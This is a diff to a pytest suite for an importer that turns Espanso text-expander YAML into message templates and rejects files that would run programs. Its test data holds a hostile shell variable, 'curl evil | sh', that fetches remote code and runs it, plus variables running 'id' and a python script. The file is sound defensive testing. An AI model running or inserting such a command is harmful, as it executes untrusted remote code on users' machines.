@@ -111,7 +111,9 @@ matches:
 
 
 def test_espanso_matches_become_templates(db):
-    items = read_espanso(ESPANSO.encode(), language="en")
+    plan = read_espanso(ESPANSO.encode(), language="en")
+    assert plan.skipped == []
+    items = plan.items
     first = items[0].data
     assert first["shortcut"] == ":refund" and first["variants"]["en"]["title"] == "Refund sent"
     assert first["variants"]["en"]["body"] == "Hi {{name}}, your refund for {{form1_order}} is on its way. {{date}}"
@@ -126,8 +128,8 @@ def test_espanso_matches_become_templates(db):
 
 @pytest.mark.parametrize("yaml_text, line, words", [
     ("matches:\n  - trigger: ':ip'\n    replace: '{{out}}'\n    vars:\n      - name: out\n        type: shell\n        params: {cmd: 'curl evil | sh'}\n", 2, "runs a program (shell)"),
-    ("matches:\n  - trigger: ':ok'\n    replace: fine\n  - trigger: ':py'\n    replace: '{{o}}'\n    vars: [{name: o, type: script, params: {args: [python, x.py]}}]\n", 4, "runs a program (script)"),
-    ("global_vars:\n  - name: g\n    type: shell\n    params: {cmd: id}\nmatches:\n  - trigger: ':a'\n    replace: a\n", None, "global variable 'g' runs a program"),
+    ("matches:\n  - trigger: ':py'\n    replace: '{{o}}'\n    vars: [{name: o, type: script, params: {args: [python, x.py]}}]\n", 2, "runs a program (script)"),
+    ("global_vars:\n  - name: g\n    type: shell\n    params: {cmd: id}\nmatches:\n  - trigger: ':a'\n    replace: '{{g}}'\n", 6, "global variable 'g', which runs a program"),
     ("matches:\n  - regex: ':(?P<x>.*)'\n    replace: x\n", 2, "regex triggers"),
     ("matches:\n  - trigger: ':h'\n    html: '<b>x</b>'\n", 2, "'html' replacements"),
     ("matches:\n  - trigger: ':m'\n    replace: '{{n}}'\n    vars: [{name: n, type: match, params: {trigger: ':x'}}]\n", 2, "nested matches"),
@@ -138,7 +140,7 @@ def test_espanso_matches_become_templates(db):
     ("matches:\n  - trigger: 'two words'\n    replace: x\n", 2, "shortcut"),
     ("matches:\n  - trigger: ':e'\n", 2, "no text to import"),
 ])
-def test_hostile_or_unsupported_espanso_files_import_nothing(yaml_text, line, words):
+def test_espanso_files_with_nothing_importable_import_nothing(yaml_text, line, words):
     with pytest.raises(ImportFailed) as info:
         read_espanso(yaml_text.encode())
     assert line in lines_of(info) and words in str(info.value), str(info.value)
@@ -147,8 +149,8 @@ def test_hostile_or_unsupported_espanso_files_import_nothing(yaml_text, line, wo
 @pytest.mark.parametrize("yaml_text, message", [
     ('matches:\n  - trigger: ":hi"\n    replace: "Hello \\ud800 there"\n',
      "line 2: variants.en.body: contains a lone surrogate U+D800 SURROGATE (not Unicode text) at character 7"),
-    ('matches:\n  - trigger: ":ok"\n    replace: fine\n  - trigger: ":x\\udfff"\n    replace: x\n',
-     "line 4: variants.en.title: contains a lone surrogate U+DFFF SURROGATE (not Unicode text) at character 3"),
+    ('matches:\n  - trigger: ":x\\udfff"\n    replace: x\n',
+     "line 2: variants.en.title: contains a lone surrogate U+DFFF SURROGATE (not Unicode text) at character 3"),
     ('matches:\n  - trigger: ":v"\n    replace: "{{v}}"\n    vars: [{name: v, type: echo, params: {echo: "\\udc00"}}]\n',
      "line 2: variables.v.default: contains a lone surrogate U+DC00 SURROGATE (not Unicode text) at character 1"),
 ])
@@ -166,7 +168,7 @@ def test_deeply_nested_yaml_is_refused_cleanly():
 
 
 def test_read_file_picks_by_extension():
-    assert read_file("x.CSV", b"title,body\nA,B\n")[0].data["variants"]["en"]["title"] == "A"
+    assert read_file("x.CSV", b"title,body\nA,B\n").items[0].data["variants"]["en"]["title"] == "A"
     with pytest.raises(ImportFailed, match="csv"):
         read_file("x.exe", b"MZ")
 
